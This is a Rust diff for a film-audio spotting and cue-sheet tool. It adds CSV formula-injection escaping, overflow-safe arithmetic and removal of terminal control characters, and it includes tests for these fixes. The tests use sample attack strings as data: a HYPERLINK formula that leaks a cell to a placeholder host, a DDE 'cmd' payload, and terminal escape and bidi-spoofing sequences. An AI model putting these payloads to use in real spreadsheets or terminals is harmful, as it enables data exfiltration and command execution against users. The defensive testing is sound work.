@@ -16,6 +16,7 @@
 //! frame rate (drop-frame aware), inside the reel, `in <= out`, unique cue
 //! numbers. It reports every problem at once, each naming its row.
 
+use crate::text::printable;
 use crate::timecode::{FrameRate, Timecode};
 use crate::{Error, Result};
 use serde::{Deserialize, Serialize};
@@ -150,7 +151,11 @@ pub struct SpotReel {
 impl SpotReel {
     /// The timecode of the reel's last frame.
     pub fn end(&self) -> Timecode {
-        let last = self.start.to_samples(self.sample_rate) + self.length.max(1) as i64 - 1;
+        let last = self
+            .start
+            .to_samples(self.sample_rate)
+            .saturating_add(i64::try_from(self.length.max(1)).unwrap_or(i64::MAX))
+            - 1;
         Timecode::from_samples(last, self.rate, self.sample_rate)
     }
 }
@@ -339,7 +344,8 @@ pub fn parse_csv(text: &str, name: &str) -> Result<Vec<Marker>> {
         let kind = f[1]
             .parse::<CueType>()
             .map_err(|m| Error::format(name, format!("line {line}: {m}")))?;
-        let [cue, _, tc_in, tc_out, character, text, reason, note] = f;
+        let [cue, _, tc_in, tc_out, character, text, reason, note] =
+            f.map(|v| unescape_formula(&v));
         markers.push(Marker {
             cue: cue.trim().to_string(),
             kind,
@@ -352,6 +358,34 @@ pub fn parse_csv(text: &str, name: &str) -> Result<Vec<Marker>> {
         });
     }
     Ok(markers)
+}
+
+/// Would a spreadsheet take a cell starting like `s` for a formula, once a
+/// run of leading `'` is taken off? (`=`, `+`, `-`, `@`, tab and CR start
+/// formulas or are stripped before one: OWASP's "CSV Injection" guidance.)
+fn formula_like(s: &str) -> bool {
+    s.trim_start_matches('\'')
+        .starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// Escapes a cell a spreadsheet would evaluate (`=HYPERLINK(...)`, `@SUM(...)`,
+/// `-6 dB dip`) by putting a `'` before it, which spreadsheets show as text.
+/// A cell that already starts with `'`s before such a character gets one more,
+/// so that [`unescape_formula`] gives back exactly what was written.
+pub fn escape_formula(s: &str) -> std::borrow::Cow<'_, str> {
+    if formula_like(s) {
+        format!("'{s}").into()
+    } else {
+        s.into()
+    }
+}
+
+/// Undoes [`escape_formula`] (one leading `'` before a formula-like cell).
+pub fn unescape_formula(s: &str) -> String {
+    match s.strip_prefix('\'') {
+        Some(rest) if formula_like(rest) => rest.to_string(),
+        _ => s.to_string(),
+    }
 }
 
 /// Quotes a CSV field when it needs it (comma, quote, CR/LF, leading or trailing space).
@@ -374,7 +408,8 @@ fn csv_field(s: &str, out: &mut String) {
     }
 }
 
-/// Writes markers as CSV with the [`CSV_COLUMNS`] header, CRLF line ends (RFC 4180).
+/// Writes markers as CSV with the [`CSV_COLUMNS`] header, CRLF line ends (RFC 4180),
+/// every cell a spreadsheet would evaluate escaped ([`escape_formula`]).
 /// `parse_csv(&to_csv(m))` gives `m` back.
 pub fn to_csv(markers: &[Marker]) -> String {
     let mut out = CSV_COLUMNS.join(",");
@@ -394,7 +429,7 @@ pub fn to_csv(markers: &[Marker]) -> String {
             if i > 0 {
                 out.push(',');
             }
-            csv_field(f, &mut out);
+            csv_field(&escape_formula(f), &mut out);
         }
         out.push_str("\r\n");
     }
@@ -496,12 +531,13 @@ pub fn read_list(path: &std::path::Path) -> Result<Vec<Marker>> {
 pub fn number_cues(markers: &mut [Marker], reel: u32) {
     for kind in CueType::ALL {
         let prefix = format!("{reel}{}", kind.letter());
+        // u64 from u32 cue numbers: `+ 1` cannot wrap, however many there are.
         let mut next = markers
             .iter()
             .filter(|m| m.kind == kind)
             .filter_map(|m| m.cue.strip_prefix(&prefix)?.parse::<u32>().ok())
             .max()
-            .unwrap_or(0)
+            .map_or(0, u64::from)
             + 1;
         for m in markers.iter_mut().filter(|m| m.kind == kind) {
             if m.cue.trim().is_empty() {
@@ -520,7 +556,7 @@ pub fn validate(markers: &[Marker], reel: &SpotReel, name: &str) -> Result<Vec<C
     let mut ms = markers.to_vec();
     number_cues(&mut ms, reel.reel);
     let start = reel.start.to_samples(reel.sample_rate);
-    let end = start + reel.length as i64;
+    let end = start.saturating_add(i64::try_from(reel.length).unwrap_or(i64::MAX));
     let mut problems = Vec::new();
     let mut cues = Vec::with_capacity(ms.len());
     let mut seen = std::collections::HashMap::new();
@@ -606,6 +642,7 @@ pub fn validate(markers: &[Marker], reel: &SpotReel, name: &str) -> Result<Vec<C
 pub fn cue_sheet(cues: &[Cue], title: &str, reel: &SpotReel) -> String {
     use std::fmt::Write;
     let mut s = String::new();
+    let title = printable(title);
     let _ = writeln!(
         s,
         "CUE SHEET  {title}  reel {}  {} fps  {} - {}",
@@ -635,27 +672,19 @@ pub fn cue_sheet(cues: &[Cue], title: &str, reel: &SpotReel) -> String {
             let _ = writeln!(
                 s,
                 "  {:<7} {:<11} {:<11} {:>6}  {:<14} {:<40} {:<16} {}",
-                m.cue,
-                m.tc_in,
-                out,
+                printable(&m.cue),
+                printable(&m.tc_in),
+                printable(out),
                 c.frames,
-                one_line(&m.character),
-                one_line(&m.line),
-                one_line(&m.reason),
-                one_line(&m.note)
+                printable(&m.character),
+                printable(&m.line),
+                printable(&m.reason),
+                printable(&m.note)
             );
         }
     }
     let _ = writeln!(s, "\n{} cues", cues.len());
     s
-}
-
-/// Collapses line breaks and tabs so that a field stays on its row.
-fn one_line(s: &str) -> String {
-    s.split(['\n', '\r', '\t'])
-        .filter(|p| !p.is_empty())
-        .collect::<Vec<_>>()
-        .join(" / ")
 }
 
 #[cfg(test)]
@@ -708,6 +737,83 @@ mod tests {
         assert_eq!(parse_csv(&csv, "x.csv").unwrap(), list);
         let json = to_json(&list, "T", "1", FrameRate::Fps24);
         assert_eq!(parse_json(&json, "x.json").unwrap(), list);
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_evaluate_are_escaped_and_round_trip() {
+        let texts = [
+            "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1 dB",
+            "-6 dB dip",
+            "\tTAB",
+            "\rCR",
+            "'=already quoted",
+            "''@two quotes",
+            "'plain apostrophe",
+            "it's fine = fine",
+            "",
+        ];
+        let list: Vec<Marker> = texts
+            .iter()
+            .map(|t| {
+                let mut x = m(CueType::Note, "01:00:10:00", "");
+                x.line = t.to_string();
+                x.note = t.to_string();
+                x.character = t.to_string();
+                x.reason = t.to_string();
+                x
+            })
+            .collect();
+        let csv = to_csv(&list);
+        // No cell of the output starts a formula.
+        for rec in csv_records(&csv, "x.csv").unwrap() {
+            for cell in rec.1 {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell:?}"
+                );
+            }
+        }
+        assert!(csv.contains("\"'=HYPERLINK"), "{csv}");
+        assert!(csv.contains(",'-6 dB dip,"), "{csv}");
+        assert!(csv.contains(",''=already quoted,"), "{csv}");
+        assert!(csv.contains(",'plain apostrophe,"), "{csv}");
+        assert_eq!(parse_csv(&csv, "x.csv").unwrap(), list);
+        // Cells that were never escaped are read as they are.
+        let plain = "type,in,line\nNote,01:00:10:00,'hello\n";
+        assert_eq!(parse_csv(plain, "x.csv").unwrap()[0].line, "'hello");
+    }
+
+    #[test]
+    fn huge_cue_numbers_and_lengths_do_not_wrap() {
+        let mut l = vec![
+            m(CueType::Adr, "01:00:01:00", ""),
+            m(CueType::Adr, "01:00:02:00", ""),
+        ];
+        l[0].cue = format!("1A{}", u32::MAX);
+        number_cues(&mut l, 1);
+        assert_eq!(l[1].cue, format!("1A{}", u64::from(u32::MAX) + 1));
+        let mut r = reel(FrameRate::Fps24);
+        r.length = u64::MAX;
+        let c = validate(&[m(CueType::Note, "01:00:01:00", "")], &r, "x").unwrap();
+        assert_eq!(c[0].in_sample, 48_000);
+        let _ = r.end();
+    }
+
+    #[test]
+    fn cue_sheets_carry_no_terminal_control_sequences() {
+        let r = reel(FrameRate::Fps24);
+        let mut a = m(CueType::Adr, "01:00:10:00", "");
+        a.line = "\u{1b}]0;owned\u{7}\u{1b}[2Jhello".into();
+        a.character = "\u{202e}YRAM".into();
+        let c = validate(&[a], &r, "x").unwrap();
+        let s = cue_sheet(&c, "T\u{1b}[31m", &r);
+        assert!(
+            !s.contains('\u{1b}') && !s.contains('\u{7}') && !s.contains('\u{202e}'),
+            "{s:?}"
+        );
+        assert!(s.contains("hello"), "{s}");
     }
 
     #[test]
